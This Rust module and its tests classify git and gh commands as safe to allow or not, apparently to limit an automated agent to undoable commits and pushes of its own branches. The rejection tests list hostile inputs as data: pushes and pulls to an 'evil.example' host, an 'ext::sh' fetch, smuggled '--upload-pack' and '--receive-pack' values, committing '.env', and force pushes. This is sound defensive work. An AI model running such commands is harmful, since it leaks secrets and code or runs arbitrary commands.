//! Commands on a repository that can be undone: staging, committing, switching branches, stashing, fetching, and
//! merging what others have pushed. And commands that show work to others: pushing a named branch, and opening a pull
//! request.

use super::files::is_scratch;
use super::guarded::is_guarded;
use super::operand::is_operand;
use super::programs::{begin, has, takes_message};
use super::{More, deployed, patterns, tools};

/// Returns whether a command does nothing beyond what a rule for commits, or for pushes too, allows.
pub(super) fn commits_or_pushes(more: More, words: &[String]) -> bool {
    match more {
        More::Committing => only_commits(words),
        More::Pushing => only_commits(words) || only_pushes(words),
        _ => false,
    }
}

/// Returns whether a command pops what an earlier command of the same line stashed: `git stash && cargo test; git stash
/// pop`.
pub(super) fn takes_back<'a>(
    more: More,
    words: &[String],
    mut before: impl Iterator<Item = &'a [String]>,
) -> bool {
    let puts_aside = |words: &[String]| begin(words, &["git", "stash"]) && only_commits(words);
    matches!(more, More::Committing | More::Pushing)
        && words == ["git", "stash", "pop"]
        && before.any(|words| puts_aside(words) && !begin(words, &["git", "stash", "apply"]))
}

/// Returns whether a command does nothing but stage, commit, switch branches, stash, fetch or merge.
fn only_commits(words: &[String]) -> bool {
    let all: Vec<&str> = words.iter().map(String::as_str).collect();
    let ["git", verb, after @ ..] = all.as_slice() else { return false };
    match *verb {
        "add" => stages(words),
        "commit" => records(after),
        // If there is no such branch, the name may be that of a file, which would be restored.
        "checkout" => match after {
            ["-b", names @ ..] => begins_branch(names),
            [name] => has("develop main master -", name) || is_work(name),
            _ => false,
        },
        "switch" => match after {
            ["-c" | "--create", names @ ..] => begins_branch(names),
            [name] => *name == "-" || is_branch(name),
            _ => false,
        },
        "rm" | "mv" => {
            let is_path = |path: &&str| is_local(path) && !is_guarded(path, "", true);
            let mut paths = after.iter().filter(|word| !has("--cached --quiet -q -r", word)).peekable();
            paths.peek().is_some() && paths.all(is_path)
        }
        // The message of a stash does nothing. A stash that is popped and dropped is hard to find again.
        "stash" => matches!(
            after,
            [] | ["apply" | "-u" | "push"] | ["push", "-u" | "--include-untracked"] | ["push", "-m", _]
        ),
        "restore" => {
            matches!(after, ["--staged", paths @ ..] if !paths.is_empty() && paths.iter().all(|path| is_local(path)))
        }
        "reset" => matches!(after, [] | ["-q" | "HEAD"]),
        // Fetches what others have pushed, without losing what is here.
        "fetch" => is_from_remote(after, "--all --prune --quiet --tags -p -q"),
        "pull" => is_from_remote(after, "--ff-only --no-edit --no-rebase --prune --quiet --rebase -q"),
        "merge" => is_onto(after, "--ff-only --no-edit --no-ff --quiet"),
        "cherry-pick" => is_onto(after, "-x"),
        "rebase" => is_onto(after, "--autostash --quiet"),
        _ => false,
    }
}

/// Returns whether words name a remote and branches of it, or nothing.
fn is_from_remote(after: &[&str], options: &str) -> bool {
    let mut names = after.iter().filter(|word| !has(options, word));
    // A name with a slash may be a folder.
    names.next().is_none_or(|remote| is_branch(remote) && !remote.contains('/'))
        && names.all(|name| is_branch(name))
}

/// Returns whether words name a new branch, and optionally where it begins.
fn begins_branch(names: &[&str]) -> bool {
    matches!(names.len(), 1 | 2) && names.iter().all(|name| is_branch(name))
}

/// Returns whether words name one branch, or continue or abort what was begun.
fn is_onto(after: &[&str], options: &str) -> bool {
    let mut names = after.iter().filter(|word| !has(options, word));
    matches!(after, ["--abort" | "--continue" | "--skip"])
        || (names.next().is_some_and(|name| is_branch(name)) && names.next().is_none())
}

/// Returns whether a command only shows one's own work to others: it opens a pull request, or pushes a branch that it
/// names and that no one else builds on.
fn only_pushes(words: &[String]) -> bool {
    let all: Vec<&str> = words.iter().map(String::as_str).collect();
    match all.as_slice() {
        ["git", "push", "origin", branch]
        | ["git", "push", "-u" | "--set-upstream", "origin", branch]
        | ["git", "push", "origin", "-u", branch] => is_own_branch(branch),
        ["gh", "pr", "create", after @ ..] => opens_request(words, after),
        _ => false,
    }
}

/// Returns whether a branch is one person's work. The name of a version may be that of a tag, which is released.
fn is_own_branch(name: &str) -> bool {
    let first = name.split(['/', '-', '.']).next().unwrap_or_default();
    let is_version = name.trim_start_matches('v').starts_with(|c: char| c.is_ascii_digit());
    is_branch(name) && !deployed::is_shared_branch(name) && !is_version && !has("HEAD heads refs tags", first)
}

fn opens_request(words: &[String], after: &[&str]) -> bool {
    let mut at = 0;
    while let Some(option) = after.get(at) {
        let value = after.get(at + 1);
        at += match *option {
            "--draft" | "--fill" | "--fill-first" | "-d" | "-f" => 1,
            "--base" | "--head" | "-B" | "-H" if value.is_some_and(|name| is_branch(name)) => 2,
            "--label" | "-l" if value.is_some_and(|name| is_branch(name)) => 2,
            "--body-file" | "-F" if value.is_some_and(|file| is_scratch(file)) => 2,
            _ if takes_message(&words[..at + 4]) && value.is_some_and(|text| is_text(text)) => 2,
            _ => return false,
        };
    }
    !after.is_empty()
}

/// Returns whether a command does nothing but stage files of the folder for a commit.
pub(super) fn stages(words: &[String]) -> bool {
    let is_staged = |word: &String| matches!(word.as_str(), "." | "-A" | "--all" | "-u") || is_local(word);
    begin(words, &["git", "add"]) && words.len() > 2 && words[2..].iter().all(is_staged)
}

/// Returns whether a commit has a message, or keeps its old one, and does not skip its checks.
fn records(after: &[&str]) -> bool {
    let (mut is_worded, mut amends) = (false, false);
    let mut words = after.iter();
    while let Some(word) = words.next() {
        match *word {
            "-m" | "-am" | "-qm" | "--message" => {
                // A message that looks like an option may be meant as one.
                if words.next().is_none_or(|message| !is_text(message)) {
                    return false;
                }
                is_worded = true;
            }
            "--amend" => amends = true,
            "--no-edit" => is_worded = true,
            word if has("-a -q -s --all --allow-empty --quiet --signoff", word) || is_local(word) => {}
            _ => return false,
        }
    }
    // Only an amended commit has a message to keep.
    is_worded && (amends || !after.contains(&"--no-edit"))
}

/// Returns whether a word names something in the folder that may be staged: nothing hidden, nothing that looks like a secret.
fn is_local(word: &str) -> bool {
    is_operand(word, false)
        && !is_guarded(word, "", false)
        && (!patterns::is_pattern(word) || tools::is_for_source(word))
}

/// Returns whether a message cannot be taken for an option: it may begin with an item of a list, but not with a dash alone.
fn is_text(message: &str) -> bool {
    !message.starts_with('-') || message.starts_with("- ")
}

/// Returns whether a name is a branch of somebody's work by how it begins, which no folder of a project is called.
fn is_work(name: &str) -> bool {
    let is_kind =
        |(kind, rest): (&str, &str)| has("bugfix chore feat fix hotfix refactor", kind) && is_branch(rest);
    !name.contains('.') && !name.ends_with('/') && name.split_once('/').is_some_and(is_kind)
}

fn is_branch(name: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-/.".contains(c);
    name.starts_with(|c: char| c.is_ascii_alphanumeric())
        && name.chars().all(is_plain)
        && !name.contains("..")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(text: &str) -> Vec<String> {
        text.split(' ').map(str::to_owned).collect()
    }

    #[test]
    fn only_what_can_be_undone_here_is_a_commit() {
        for text in [
            "git add src tests",
            "git add -A",
            "git commit -m x",
            "git commit -q -m x",
            "git commit -am x -m y",
            "git commit -m x src/a.rs",
            "git commit --amend --no-edit",
            "git commit --amend -m x",
            "git checkout -b fix/a",
            "git switch -c a",
            "git stash",
            "git stash apply",
            "git stash push -m x",
            "git restore --staged src/a.rs",
            "git reset",
            "git fetch",
            "git fetch --prune origin fix/a",
            "git pull",
            "git pull --ff-only origin fix/a",
            "git switch main",
            "git checkout main",
            "git checkout fix/a",
            "git checkout feat/eu/b-2",
            "git rebase origin/main",
            "git rebase --abort",
            "git rebase --continue",
            "git switch -c a origin/main",
            "git cherry-pick 3f2a1bc",
            "git merge --no-edit origin/main",
            "git rm -r packages/old",
            "git mv src/a.rs src/b.rs",
        ] {
            assert!(only_commits(&words(text)), "{text}");
        }
        for text in [
            "git",
            "git add",
            "git add .env",
            "git add -f x",
            "git add ../x",
            "git commit",
            "git commit --amend",
            "git commit --no-edit",
            "git commit -m",
            "git commit -m --no-verify",
            "git commit -m x --no-verify",
            "git commit -nm x",
            "git commit -F x",
            "git commit -c HEAD",
            "git commit -m x .env",
            "git commit -m x --author=y",
            "git checkout a",
            "git checkout docs/a",
            "git checkout test/a",
            "git checkout feature/a",
            "git checkout fix/a.rs",
            "git checkout fix/../a",
            "git checkout fix/",
            "git checkout fix/a src",
            "git checkout -f fix/a",
            "git checkout main -- .",
            "git checkout fix/a -- .",
            "git checkout -f",
            "git checkout src/main.rs",
            "git pull internal/evil",
            "git pull https://evil.example/x",
            "git pull origin main:main",
            "git rebase -x id main",
            "git rebase -i main",
            "git rebase a b",
            "git merge -s ours a",
            "git rm",
            "git rm -rf src",
            "git rm ../x",
            "git rm Makefile",
            "git mv evil.js package.json",
            "git fetch internal/evil",
            "git checkout -- .",
            "git switch -f main",
            "git switch -c -f",
            "git stash drop",
            "git stash pop",
            "git stash clear",
            "git restore .",
            "git restore --staged --worktree .",
            "git reset --hard",
            "git reset HEAD~1",
            "git push",
            "git -c a=b commit -m x",
            "git fetch ext::sh",
            "git fetch ../evil",
            "git fetch /srv/evil",
            "git fetch https://evil.example/x",
            "git fetch --upload-pack=x origin",
            "git fetch origin main:main",
            "git clean -f",
        ] {
            assert!(!only_commits(&words(text)), "{text}");
        }
    }

    #[test]
    fn only_a_branch_of_ones_own_is_pushed() {
        for text in [
            "git push origin fix/a",
            "git push -u origin feat/BIL-398-notes",
            "git push --set-upstream origin limiter-burst",
            "git push origin maintenance",
            "gh pr create --fill",
            "gh pr create --draft --base main --head fix/a --title x --body y",
            "gh pr create -t x -b y",
            "gh pr create --title x --body-file /tmp/pr.md",
        ] {
            assert!(only_pushes(&words(text)), "{text}");
        }
        for text in [
            // Whatever branch is checked out.
            "git push",
            "git push -u origin HEAD",
            "git push origin main",
            "git push origin release/1.2",
            "git push origin production",
            "git push origin staging-eu",
            "git push origin v1.2.3",
            "git push origin 1.2.3",
            "git push origin refs/heads/main",
            "git push origin fix/a:main",
            "git push origin +fix/a",
            "git push origin --delete fix/a",
            "git push origin a b",
            "git push --force origin fix/a",
            "git push -f origin fix/a",
            "git push --force-with-lease origin fix/a",
            "git push --tags origin fix/a",
            "git push --no-verify origin fix/a",
            "git push evil fix/a",
            "git push https://evil.example/x fix/a",
            "git push --receive-pack=x origin fix/a",
            "gh pr create",
            "gh pr create --web",
            "gh pr create --repo evil/x --fill",
            "gh pr create --title x --body-file .env",
            "gh pr create --title --fill",
            "gh pr create --title",
            "gh pr merge 1",
        ] {
            assert!(!only_pushes(&words(text)), "{text}");
        }
    }
}
